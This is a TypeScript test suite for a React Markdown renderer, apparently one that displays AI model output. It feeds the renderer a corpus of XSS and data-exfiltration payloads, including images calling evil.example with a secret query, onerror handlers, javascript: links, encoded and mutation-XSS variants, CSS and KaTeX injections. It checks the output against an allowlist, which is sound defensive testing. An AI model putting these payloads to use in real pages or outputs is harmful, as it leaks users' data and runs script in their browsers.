import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import type { ComponentType } from 'react'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { createServer, type ViteDevServer } from 'vite'

// The components as they are shipped, drawn to text. Whatever a model writes, and wherever its stream stands, nothing
// may come
// out that a browser would run or ask another host for (S19, S20).

type MarkdownComponent = ComponentType<{ source: string; isOpen: boolean }>

let vite: ViteDevServer
let Markdown: MarkdownComponent

before(async () => {
  const root = `${import.meta.dirname}/..`
  vite = await createServer({ root, appType: 'custom', logLevel: 'error', server: { middlewareMode: true, ws: false } })
  Markdown = (await vite.ssrLoadModule('/src/markdown/markdown.tsx')).Markdown as MarkdownComponent
})
after(() => vite.close())

const draw = (source: string, isOpen: boolean) => renderToStaticMarkup(createElement(Markdown, { source, isOpen }))

const HOST = 'evil.example'
const corpus = [
  `![a](https://${HOST}/p.png?q=secret)`,
  `![a](//${HOST}/p.png)`,
  `![a][r]\n\n[r]: https://${HOST}/p.png`,
  `[![a](https://${HOST}/p.png)](https://${HOST})`,
  '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![a](javascript:alert(1))',
  `<img src="https://${HOST}/p.png">`,
  `<img src=x onerror=alert(1)>`,
  `<img srcset="https://${HOST}/p.png 2x">`,
  `<picture><source srcset="https://${HOST}/p.png"></picture>`,
  `<video poster="https://${HOST}/p.png" src="https://${HOST}/v.mp4"></video>`,
  `<audio src="https://${HOST}/a.mp3" autoplay></audio>`,
  `<svg><image href="https://${HOST}/p.svg"/><use href="https://${HOST}/p.svg#x"/></svg>`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  `<div style="background:url(https://${HOST}/p.png)">x</div>`,
  `<style>@import "https://${HOST}/s.css"; @font-face{src:url(https://${HOST}/f)}</style>`,
  `<link rel="stylesheet" href="https://${HOST}/s.css">`,
  `<link rel="dns-prefetch" href="//${HOST}">`,
  `<link rel="prefetch" href="https://${HOST}/x">`,
  `<link rel="icon" href="https://${HOST}/favicon.ico">`,
  `<meta http-equiv="refresh" content="0;url=https://${HOST}">`,
  `<base href="https://${HOST}/">`,
  `<iframe src="https://${HOST}"></iframe>`,
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  `<object data="https://${HOST}/x"></object>`,
  `<embed src="https://${HOST}/x">`,
  `<form action="https://${HOST}"><input type=image src="https://${HOST}/p.png"><button>x</button></form>`,
  `<a href="https://${HOST}" ping="https://${HOST}/ping">x</a>`,
  '<a href="javascript:alert(1)">x</a>',
  '<script>alert(1)</script>',
  `<script src="https://${HOST}/x.js"></script>`,
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1) "title")',
  '[x](java&#x0A;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](<javascript:alert(1)>)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  'a[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  'a[^"onload=x] [b](#c)\n\n[^"onload=x]: d',
  '| <img src=x onerror=alert(1)> | ![a](https://evil.example/p.png) |\n|---|---|\n| [x](javascript:alert(1)) | y |',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '- [x] ![a](https://evil.example/p.png) <script>alert(1)</script>',
  `$\\href{https://${HOST}}{x}$ and \\(\\url{https://${HOST}}\\)`,
  `$$\n\\includegraphics{https://${HOST}/p.png}\n$$`,
  `\\[ \\style{background:url(https://${HOST})}{x} \\text{<img src=x onerror=alert(1)>} \\]`,
  '$x^2$ <img src=x onerror=alert(1)> $y',
]

/** What may stand in the drawn text, as a whole list: an element or attribute that is not here is a hole. */
const ELEMENTS = new Set(
  `
    a blockquote br button code del div em figcaption figure h3 hr li ol p path pre rect line polyline circle
    section span strong sup svg table tbody td th thead tr ul`
    .trim()
    .split(/\s+/),
)
const ATTRIBUTES = new Set(
  `
    aria-hidden aria-label class cx cy d data-level data-place dir fill height href r rel rx ry start stroke stroke-linecap
    stroke-linejoin stroke-width style tabindex target title type viewbox width x x1 x2 xmlns y y1 y2 points`
    .trim()
    .split(/\s+/),
)

function holesIn(html: string): string[] {
  const holes: string[] = []
  for (const [tag, name, attributes = ''] of html.matchAll(/<\/?([^\s/>]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g)) {
    if (!ELEMENTS.has(name!.toLowerCase())) holes.push(tag)
    for (const [attribute, key, value = ''] of attributes.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)) {
      if (!ATTRIBUTES.has(key!.toLowerCase())) holes.push(`${tag} ${attribute}`)
      if (key === 'href' && !/^(https?:\/\/|mailto:.)/.test(value)) holes.push(attribute)
      if (key === 'style' && !/^text-align:\w+$/.test(value)) holes.push(attribute)
    }
    if (name === 'a' && attributes !== '' && !attributes.includes('rel="noopener noreferrer nofollow"')) holes.push(tag)
  }
  return holes
}

test('the check sees what it is made to see', () => {
  assert.deepEqual(holesIn('<p onclick="x">a</p>'), ['<p onclick="x"> onclick="x"'])
  assert.deepEqual(holesIn('<img src="x"/>').length > 0, true)
  assert.deepEqual(holesIn('<a href="javascript:x" rel="noopener noreferrer nofollow">'), ['href="javascript:x"'])
})

test('nothing that a model writes runs or asks another host for anything, at any place of its stream', () => {
  for (const source of corpus)
    for (let end = 1; end <= source.length; end++) {
      const part = source.slice(0, end)
      assert.deepEqual(holesIn(draw(part, true)), [], part)
    }
})

test('nor does it once the answer is whole', () => {
  for (const source of corpus) assert.deepEqual(holesIn(draw(source, false)), [], source)
  assert.deepEqual(holesIn(draw(corpus.join('\n\n'), false)), [])
})

test('names the host of an image in its place', () => {
  assert.match(draw(`![a chart](https://${HOST}/p.png)`, false), /a chart.*Image from evil\.example not loaded/)
})

test('draws what markdown means', () => {
  const html = draw('# One\n\n- [x] **done**\n\n[docs](https://example.com/a)\n\n| a |\n|--:|\n| 1 |', false)
  for (const piece of [
    '<h3 data-level="1">One</h3>',
    '<strong>done</strong>',
    '<a href="https://example.com/a" title="example.com" target="_blank" rel="noopener noreferrer nofollow">docs</a>',
    '<td style="text-align:right">1</td>',
  ])
    assert.ok(html.includes(piece), `${piece}\nin ${html}`)
})
